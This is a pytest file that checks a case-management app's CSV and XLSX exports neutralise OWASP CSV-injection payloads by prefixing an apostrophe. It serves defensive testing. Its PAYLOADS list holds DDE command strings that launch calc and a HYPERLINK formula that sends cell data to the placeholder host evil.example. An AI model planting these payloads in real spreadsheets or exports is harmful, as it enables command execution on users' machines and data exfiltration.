"""OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) through every
export the product writes: the queue's case CSV, a report's CSV and XLSX, and the case-list export
job's CSV and XLSX. No cell may start with = + - @, a tab or a carriage return, and each payload comes
back whole behind one apostrophe. (The API answers JSON only; it writes no CSV.)
"""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from cases.models import Case
from cases.safe_csv import formula_safe, safe_csv_writer
from reports.models import ExportJob, ReportKind
from reports.services import export_job_create, export_job_run, report_draft_create
from workflow.models import CaseClock

# OWASP's list, written here rather than read from the code under test.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "\t=1+1",
    "\r=1+1",
]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def _assert_no_formula(cells, where):
    """No text cell starts a formula (a number, negative or not, is a number)."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            assert _number(cell), (where, cell)


def _in_xlsx(text: str) -> str:
    """A spreadsheet file is XML: openpyxl reads a carriage return back as a line feed with the standard
    library's parser, and keeps it with lxml's (when installed). Both sides are compared without it."""
    return text.replace("\r", "\n") if isinstance(text, str) else text


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes, where) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_puts_an_apostrophe_before_each_payload(payload):
    assert formula_safe(payload) == "'" + payload
    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow([payload, "Nước sạch", 2, -3])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + payload, "Nước sạch", "2", "-3"]


def test_the_writer_leaves_ordinary_cells_alone():
    for value in ("Nước sạch", "'=already text", " =1+1", "DL-2026-000001", "", 0, -3, 1.5, None):
        assert formula_safe(value) == value


@pytest.fixture
def hostile(world, new_case):
    """Cases and reference data of commune A whose every free-text field an export shows is a payload."""
    cases = [new_case(f"Vụ việc {n}") for n in range(len(PAYLOADS))]
    for case, payload in zip(cases, PAYLOADS):
        Case.objects.filter(pk=case.pk).update(title=payload)  # as an import could have stored it, ends and all
    # Overdue, so the report lists their titles too.
    CaseClock.objects.filter(case__in=cases).update(due_at=timezone.now() - timedelta(days=2))
    world.topic.name = PAYLOADS[0]
    world.topic.save(update_fields=["name"])
    world.channel.name = PAYLOADS[1]
    world.channel.save(update_fields=["name"])
    world.hamlet_a.name = PAYLOADS[4]
    world.hamlet_a.save(update_fields=["name"])
    return cases


def test_the_queue_csv(world, hostile, as_user):
    body = as_user("clerk").get("/cases/export.csv", {"tab": "all"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    _assert_no_formula([cell for row in rows for cell in row], "queue csv")
    assert sorted(row[2] for row in rows[1:]) == sorted("'" + payload for payload in PAYLOADS)
    assert {(row[3], row[4]) for row in rows[1:]} == {("'" + PAYLOADS[0], "'" + PAYLOADS[4])}


def test_a_reports_csv_and_xlsx(world, hostile, as_user):
    report = report_draft_create(by=world.secretariat, unit=world.commune_a, kind=ReportKind.MONTHLY,
                                 period_start=timezone.localdate(), narrative="\n".join(PAYLOADS[2:4]))
    client = as_user("secretariat")
    cells = _csv_cells(client.get(f"/reports/{report.pk}/export.csv").content.decode("utf-8-sig"))
    _assert_no_formula(cells, "report csv")
    for payload in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[4]):  # topic, channel, locality
        assert "'" + payload in cells, payload
    cells = _xlsx_cells(client.get(f"/reports/{report.pk}/export.xlsx").content, "report xlsx")
    _assert_no_formula(cells, "report xlsx")
    for payload in PAYLOADS:  # the overdue cases' titles (and the narrative's lines, the names)
        assert "'" + _in_xlsx(payload) in [_in_xlsx(cell) for cell in cells], payload


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_case_list_export_job(world, hostile, fmt, settings):
    job = export_job_create(by=world.clerk, fmt=fmt, filters={})
    export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    content = (settings.MEDIA_ROOT / job.file).read_bytes()
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
    else:
        rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
        cells = _xlsx_cells(content, "job xlsx")
    _assert_no_formula(cells, f"job {fmt}")
    written = (lambda payload: payload) if fmt == "csv" else _in_xlsx
    assert sorted(written(row[2]) for row in rows[1:]) == sorted("'" + written(payload) for payload in PAYLOADS)
